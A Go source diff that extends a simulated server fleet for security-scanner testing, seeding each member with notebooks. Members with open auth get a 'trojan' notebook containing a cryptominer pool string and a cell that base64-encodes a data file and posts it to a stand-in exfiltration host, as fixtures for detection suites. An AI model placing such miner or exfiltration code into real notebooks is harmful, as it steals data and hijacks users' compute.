@@ -3,7 +3,17 @@ package fleet
 import (
 	"fmt"
 
+	"repro/internal/nbformat"
 	"repro/internal/server"
+	"repro/internal/vfs"
+
+	// The default scanner suites self-register with the scan registry;
+	// importing them here means every fleet sweep can resolve the full
+	// --suites set without callers wiring anything.
+	_ "repro/internal/cryptoaudit"
+	_ "repro/internal/misconfig"
+	_ "repro/internal/nbscan"
+	_ "repro/internal/threatintel"
 )
 
 // Target is one scannable fleet member: the address a probe reaches
@@ -14,6 +24,10 @@ type Target struct {
 	Preset string `json:"preset"`
 	Addr   string `json:"addr"`
 	Knobs  Knobs  `json:"knobs"`
+
+	// fs is the in-process member's content filesystem, handed to
+	// deep-scan suites. Nil for targets reconstructed from JSON.
+	fs *vfs.FS
 }
 
 // Fleet is a set of running in-process simulated servers.
@@ -23,25 +37,67 @@ type Fleet struct {
 }
 
 // Spawn starts one loopback server per preset, each on an ephemeral
-// port. On any listen failure the already-started members are closed
-// and the error returned.
+// port, and seeds its content filesystem from the preset (exposed
+// members carry the trojan notebooks a real census would find). On
+// any listen failure the already-started members are closed and the
+// error returned.
 func Spawn(presets []Preset) (*Fleet, error) {
 	f := &Fleet{}
 	for _, p := range presets {
 		cfg := p.Knobs.Config()
 		cfg.Port = 0
+		// Seeding happens below, outside the contents API; upload-time
+		// scanning is the server's own concern, not the census's.
+		cfg.ScanNotebooks = false
 		srv := server.NewServer(cfg)
 		addr, err := srv.Start()
 		if err != nil {
 			f.Close()
 			return nil, fmt.Errorf("fleet: spawn %s: %w", p.ID, err)
 		}
+		if err := seedContent(srv.FS, p.Knobs); err != nil {
+			f.Close()
+			return nil, fmt.Errorf("fleet: seed %s: %w", p.ID, err)
+		}
 		f.servers = append(f.servers, srv)
 		f.targets = append(f.targets, Target{
-			ID: p.ID, Preset: p.Name, Addr: addr, Knobs: p.Knobs,
+			ID: p.ID, Preset: p.Name, Addr: addr, Knobs: p.Knobs, fs: srv.FS,
 		})
 	}
 	return f, nil
+}
+
+// seedContent populates a member's filesystem deterministically from
+// its knobs: every server holds ordinary analyst work, and members
+// whose auth is open additionally carry the attack-shaped notebooks
+// the paper's census found resident on exposed instances — giving the
+// deep-scan suites something truthful to detect.
+func seedContent(fs *vfs.FS, k Knobs) error {
+	benign := nbformat.New()
+	benign.AppendMarkdown("intro", "# Daily analysis")
+	benign.AppendCode("load", `data = read_file("data/train.csv")`+"\n"+`print(len(data))`)
+	if err := writeNotebook(fs, "notebooks/analysis.ipynb", benign); err != nil {
+		return err
+	}
+	if err := fs.Write("data/train.csv", "seed", []byte("a,b\n1,2\n")); err != nil {
+		return err
+	}
+	if !k.NoAuth {
+		return nil
+	}
+	trojan := nbformat.New()
+	trojan.AppendCode("miner", `pool = "stratum+tcp://pool.evil:3333 xmrig"`)
+	trojan.AppendCode("exfil", `payload = b64encode(read_file("data/train.csv"))`+"\n"+
+		`http_post("http://exfil.example/drop", payload)`)
+	return writeNotebook(fs, "notebooks/gpu_tuning.ipynb", trojan)
+}
+
+func writeNotebook(fs *vfs.FS, path string, nb *nbformat.Notebook) error {
+	data, err := nb.Marshal()
+	if err != nil {
+		return err
+	}
+	return fs.Write(path, "seed", data)
 }
 
 // Targets returns the scannable members in spawn order.
